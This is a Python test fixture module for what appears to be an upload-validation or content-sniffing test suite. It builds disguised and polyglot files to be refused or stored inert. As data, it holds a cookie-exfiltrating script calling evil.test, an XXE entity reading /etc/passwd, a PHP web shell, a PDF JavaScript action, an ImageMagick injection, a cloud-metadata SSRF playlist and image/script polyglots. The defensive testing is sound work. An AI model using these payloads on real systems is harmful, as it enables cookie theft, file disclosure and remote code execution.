"""Files that are not what they are called, or more than one thing at once, each with the type that it may be stored with, if
any."""

import gzip
import io
import struct
import zipfile
import zlib

from PIL import Image

SCRIPT = b"<script>fetch('https://evil.test/?'+document.cookie)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
JS = b"alert(document.domain);//"
XML = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'


def picture(form: str) -> bytes:
    """A real picture."""
    out = io.BytesIO()
    Image.effect_noise((32, 24), 90).convert("RGB").save(out, form)
    return out.getvalue()


def archive(*names: str) -> bytes:
    """A zip with a page under each of these names."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name in names:
            made.writestr(name, HTML)
    return out.getvalue()


def png_chunk(kind: bytes, content: bytes) -> bytes:
    """One chunk of a PNG, as it should be."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def box(kind: bytes, content: bytes) -> bytes:
    """One box of an ISO media file."""
    return struct.pack(">I", len(content) + 8) + kind + content


def riff(form: bytes, content: bytes) -> bytes:
    """A RIFF file with one chunk of that content."""
    chunk = b"JUNK" + struct.pack("<I", len(content)) + content
    return b"RIFF" + struct.pack("<I", len(chunk) + 4) + form + chunk


PNG, JPEG, GIF, WEBP = (picture(form) for form in ("PNG", "JPEG", "GIF", "WEBP"))
ZIP = archive("a.html")
MP4 = box(b"ftyp", b"isom\x00\x00\x02\x00isommp42")
EBML = b"\x1aE\xdf\xa3\x9fB\x86\x81\x01B\xf7\x81\x01B\xf2\x81\x04B\xf3\x81\x08B\x82\x84"

REFUSED: dict[str, bytes] = {
    "empty": b"",
    "one byte": b"\x89",
    "a space": b" ",
    "zeros": bytes(4096),
    "svg": SVG,
    "svg after a declaration": b'<?xml version="1.0" encoding="UTF-8"?>' + SVG,
    "svg after a comment": b"<!-- a picture -->" + SVG,
    "svg after a doctype": b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "svg11.dtd">' + SVG,
    "svg after a byte order mark": b"\xef\xbb\xbf" + SVG,
    "svg after white space": b" \t\r\n" * 200 + SVG,
    "svg in UTF-16": SVG.decode().encode("utf-16"),
    "svg in UTF-16, the other way": b"\xfe\xff" + SVG.decode().encode("utf-16-be"),
    "svg in UTF-32": SVG.decode().encode("utf-32"),
    "svg in UTF-7": b"+ADw-svg onload=+ACI-alert(1)+ACIAPg-",
    "svgz": gzip.compress(SVG),
    "html": HTML,
    "html in capitals": HTML.upper(),
    "html without a doctype": b"<html>" + SCRIPT,
    "html after two byte order marks": b"\xef\xbb\xbf\xef\xbb\xbf" + HTML,
    "html after a form feed": b"\x0c" + HTML,
    "html after zeros": bytes(16) + HTML,
    "html after a page of white space": b"\n" * 70_000 + HTML,
    "html in UTF-16": HTML.decode().encode("utf-16"),
    "html after a comment": b"<!--" + b"-" * 600 + b"-->" + HTML,
    "a script element": SCRIPT,
    "an iframe": b"<iframe srcdoc='<script>alert(1)</script>'>",
    "text and then html": b"An error occurred: " + HTML,
    "xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
    "hta": b"<hta:application id=x><script>new ActiveXObject('WScript.Shell')</script>",
    "xml with an entity": XML,
    "xml with a style sheet": b'<?xml-stylesheet type="text/xsl" href="https://evil.test/x.xsl"?><x/>',
    "an atom feed": b'<feed xmlns="http://www.w3.org/2005/Atom"><title type="html">&lt;script&gt;</title></feed>',
    "mathml": b'<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"/>',
    "mhtml": b"From: <saved>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n" + HTML,
    "javascript": JS,
    "javascript after a byte order mark": b"\xef\xbb\xbf" + JS,
    "a javascript module": b"import 'https://evil.test/x.js';export default 1",
    "css": b"body{background:url(https://evil.test/)}@import 'x'",
    "json": b'{"detail": "' + SCRIPT.replace(b'"', b"'") + b'"}',
    "a cache manifest": b"CACHE MANIFEST\nFALLBACK:\n/ /evil.html\n",
    "a web assembly": b"\0asm\x01\0\0\0",
    "flash": b"FWS\x08" + bytes(64),
    "compressed flash": b"CWS\x08" + zlib.compress(bytes(64)),
    "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
    "pdf after text": b"junk\n%PDF-1.7\n1 0 obj<<>>endobj",
    "postscript": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file",
    "rtf": b"{\\rtf1{\\object\\objupdate}}",
    "a windows program": b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0",
    "a windows shortcut": b"L\0\0\0\x01\x14\x02\0" + bytes(64),
    "an internet shortcut": b"[InternetShortcut]\r\nURL=file:///etc/passwd\r\n",
    "a desktop entry": b"[Desktop Entry]\nType=Application\nExec=sh -c id\n",
    "elf": b"\x7fELF\x02\x01\x01" + bytes(64),
    "mach-o": b"\xcf\xfa\xed\xfe" + bytes(64),
    "a java class": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(64),
    "a shell script": b"#!/bin/sh\nid\n",
    "php": b"<?php system($_GET['c']); ?>",
    "python": b"import os\nos.system('id')\n",
    "a playlist of internal addresses": b"#EXTM3U\n#EXTINF:1,\nhttp://169.254.169.254/latest/meta-data/\n",
    "an ffmpeg list": b"ffconcat version 1.0\nfile /etc/passwd\n",
    "imagemagick's own": b"push graphic-context\nfill 'url(https://evil.test/|id)'\n",
    "webvtt": b"WEBVTT\n\n00:00.000 --> 00:01.000\n" + SCRIPT,
    "gzip": gzip.compress(HTML),
    "tar": b"a.html" + bytes(251) + b"ustar\x0000" + bytes(247),
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(32),
    "rar": b"Rar!\x1a\x07\x01\0" + bytes(32),
    "an empty zip": b"PK\x05\x06" + bytes(18),
    "html and then a zip": HTML + ZIP,
    "a bitmap that is html": b"BM" + HTML,
    "an icon that is html": b"\0\0\x01\0" + HTML,
    "riff of no known form": riff(b"HTML", HTML),
    "a webp that forgot its riff": b"<!--\0\0\0\0WEBP-->" + HTML,
    "rifx": b"RIFX" + riff(b"WAVE", HTML)[4:],
    "html that pretends to be an mp4": b"<!--ftypisom-->" + HTML,
    "svg that pretends to be an mp4": b"<svgftyp onload='alert(1)' xmlns='http://www.w3.org/2000/svg'/>",
    "javascript that pretends to be an mp4": b"/** ftypisom*/" + JS,
    "javascript that pretends to be a quicktime film": b"a='/moov/wide';" + JS,
    "javascript that begins with moov": b"var moov=1;" + JS,
    "a page whose title is wide": b"<b> wide" + HTML,
    "a png that lost its first byte": PNG[1:],
    "a png without its line ends": PNG.replace(b"\r\n\x1a\n", b"\n\x1a\n", 1),
    "half a signature of a png": PNG[:5],
    "a gif of no version": b"GIF88a" + GIF[6:],
    "half a signature of a jpeg": JPEG[:2],
    "a header of an mp3 that is UTF-16": b"\xff\xfe" + "<html>".encode("utf-16-le"),
}
"""What a browser might run, what a program might, and what nobody knows."""

STORED: dict[str, tuple[str, bytes]] = {
    "png": ("image/png", PNG),
    "png and then html": ("image/png", PNG + HTML),
    "png and then a zip": ("image/png", PNG + ZIP),
    "png with html in a text": ("image/png", PNG[:33] + png_chunk(b"tEXt", b"Comment\0" + HTML) + PNG[33:]),
    "png with php in its palette": ("image/png", PNG[:33] + png_chunk(b"PLTE", b"<?php system($_GET['c']);?>") + PNG[33:]),
    "png that is only a signature and html": ("image/png", PNG[:8] + HTML),
    "png that ends in its header": ("image/png", PNG[:20]),
    "png of a billion pixels": (
        "image/png",
        PNG[:8] + png_chunk(b"IHDR", struct.pack(">IIBBBBB", 2**31 - 1, 2**31 - 1, 8, 2, 0, 0, 0)),
    ),
    "jpeg": ("image/jpeg", JPEG),
    "jpeg and then javascript": ("image/jpeg", JPEG + JS),
    "jpeg whose length opens a comment": ("image/jpeg", b"\xff\xd8\xff\xe0/*JFIF" + bytes(10_000) + b"*/=1;" + JS),
    "jpeg with html in a comment": ("image/jpeg", b"\xff\xd8\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML + JPEG[2:]),
    "jpeg and then a zip": ("image/jpeg", JPEG + ZIP),
    "jpeg that is only three bytes": ("image/jpeg", b"\xff\xd8\xff"),
    "gif": ("image/gif", GIF),
    "gifar": ("image/gif", GIF + archive("META-INF/MANIFEST.MF", "Evil.class")),
    "gif that is javascript": ("image/gif", b"GIF89a/*" + bytes(200) + b"*/=1;" + JS),
    "gif that is html": ("image/gif", b"GIF87a" + HTML),
    "gif that is svg": ("image/gif", b"GIF89a" + SVG),
    "webp": ("image/webp", WEBP),
    "webp around html": ("image/webp", riff(b"WEBP", HTML)),
    "webp that is cut short": ("image/webp", WEBP[:14]),
    "wav around html": ("audio/wav", riff(b"WAVE", HTML)),
    "avi around html": ("video/x-msvideo", riff(b"AVI ", HTML)),
    "mp4 with html in a free box": ("video/mp4", MP4 + box(b"free", HTML) + box(b"mdat", HTML)),
    "mp4 that ends in its header": ("video/mp4", MP4[:10]),
    "quicktime with html": ("video/quicktime", box(b"moov", HTML)),
    "avif with html": ("image/avif", box(b"ftyp", b"avif\0\0\0\0avifmif1") + HTML),
    "heic with html": ("image/heic", box(b"ftyp", b"heic\0\0\0\0") + HTML),
    "webm with html": ("video/webm", EBML + b"webm" + HTML),
    "matroska with html": ("video/x-matroska", EBML + b"matroska" + HTML),
    "mp3 with html in its tag": ("audio/mpeg", b"ID3\x04\0\0\0\0\x10\0TXXX" + HTML),
    "mp3 frame and then html": ("audio/mpeg", b"\xff\xfb\x90\0" + HTML),
    "flac with html": ("audio/flac", b"fLaC" + HTML),
    "ogg with html": ("audio/ogg", b"OggS" + HTML),
    "tiff with html": ("image/tiff", b"II*\0" + HTML),
    "tiff with html, the other way": ("image/tiff", b"MM\0*" + HTML),
    "gltf with javascript": ("model/gltf-binary", b"glTF\x02\0\0\0" + JS),
    "ply with html": ("model/x-ply", b"ply\nformat ascii 1.0\ncomment " + HTML),
    "zip": ("application/zip", ZIP),
    "jar": ("application/zip", archive("META-INF/MANIFEST.MF", "Evil.class")),
    "docx": ("application/zip", archive("[Content_Types].xml", "word/document.xml")),
    "apk": ("application/zip", archive("AndroidManifest.xml", "classes.dex")),
}
"""What begins as media does: stored as that, byte for byte, and never served as anything else."""
